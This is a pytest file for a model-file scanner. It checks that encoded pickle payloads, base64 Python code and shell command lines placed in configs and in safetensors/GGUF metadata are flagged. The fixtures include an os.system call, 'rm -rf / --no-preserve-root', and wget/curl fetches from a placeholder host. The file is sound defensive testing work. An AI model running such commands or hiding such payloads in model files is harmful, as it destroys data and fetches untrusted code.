"""Payloads stored as encoded text in JSON/YAML configs and in safetensors/GGUF metadata,
and shell command lines in metadata. No loader decodes or runs them; they wait for a
second step, so an encoded payload is graded by what it decodes to, and command text in
metadata is suspicious at most."""

from __future__ import annotations

import base64
import hashlib
import json

import pytest

from tests.fixtures.archives import torch_like_zip
from tests.fixtures.gguf_builder import STRING, small_model
from tests.fixtures.pickles import os_system
from tests.fixtures.safetensors_builder import valid_file
from tests.scanner.pickle.helpers import finding, no_internal_error, rules, scan
from weightscan.scanner import Verdict

INNER = os_system("touch /tmp/weightscan-test", proto=4)
CODE = "__import__('os').system('touch /tmp/weightscan-test')"


def _b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("config.json", json.dumps({"model_type": "bert", "init": _b64(INNER)}, indent=2)),
        ("config.json", json.dumps({"a": {"b": [1, INNER.hex()]}})),
        ("model_config.yaml", f"model: resnet\npayload: {_b64(INNER)}\n"),
        ("settings.ini", f"[model]\nstate={_b64(INNER)}\n"),
    ],
    ids=["json-base64", "json-hex-nested", "yaml", "ini-key-value"],
)
def test_an_encoded_malicious_pickle_in_a_config_is_malicious(name, text):
    report = scan(text.encode(), name)
    no_internal_error(report)
    assert finding(report, "payload.encoded").severity.value == "high"
    assert report.verdict is Verdict.MALICIOUS


def test_encoded_code_in_a_config_is_suspicious():
    report = scan(json.dumps({"hook": _b64(CODE.encode())}).encode(), "config.json")
    assert "payload.encoded-code" in rules(report)
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "value",
    [
        hashlib.sha256(b"x").hexdigest(),
        _b64(hashlib.sha512(b"x").digest() * 4),
        _b64(b"\x89PNG\r\n\x1a\n" + bytes(range(200))),
        _b64(b"a sentence of plain documentation text, nothing that runs"),
        "bert_base_uncased_whole_word_masking_finetuned_squad_v2",
    ],
    ids=["sha256", "random", "png", "text", "identifier"],
)
def test_ordinary_long_strings_in_a_config_stay_clean(value):
    report = scan(json.dumps({"model_type": "bert", "x": value}).encode(), "config.json")
    assert report.verdict is Verdict.CLEAN, report.findings


def _safetensors(value: str) -> bytes:
    return valid_file({"format": "pt", "extra": value})


def test_a_torch_archive_in_safetensors_metadata_is_malicious():
    report = scan(_safetensors(_b64(torch_like_zip(INNER))), "model.safetensors")
    assert finding(report, "payload.encoded", kind="zip").severity.value == "high"


@pytest.mark.parametrize("fmt", ["safetensors", "gguf"])
def test_encoded_code_in_metadata_is_suspicious(fmt):
    value = _b64(CODE.encode())
    if fmt == "safetensors":
        data, name = _safetensors(value), "model.safetensors"
    else:
        b = small_model()
        b.kv("general.extra", STRING, value)
        data, name = b.build(), "model.gguf"
    report = scan(data, name)
    assert "payload.encoded-code" in rules(report), report.findings
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "command",
    [
        "rm -rf /tmp/weightscan-test && wget http://example.invalid/x.sh",
        "echo ready; curl -s http://example.invalid/x",
        "rm -rf / --no-preserve-root",
    ],
)
def test_shell_command_lines_in_metadata_are_suspicious_not_malicious(command):
    report = scan(_safetensors(command), "model.safetensors")
    assert "safetensors.metadata.payload" in rules(report), report.findings
    assert report.verdict is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "value",
    [
        "https://example.invalid/model-card",  # a link is no command
        "<b>bold</b> description",
        "trained with: python train.py --lr 0.001 --epochs 3",
        "rm the old checkpoints before training",
    ],
)
def test_ordinary_metadata_text_stays_clean(value):
    assert scan(_safetensors(value), "model.safetensors").verdict is Verdict.CLEAN
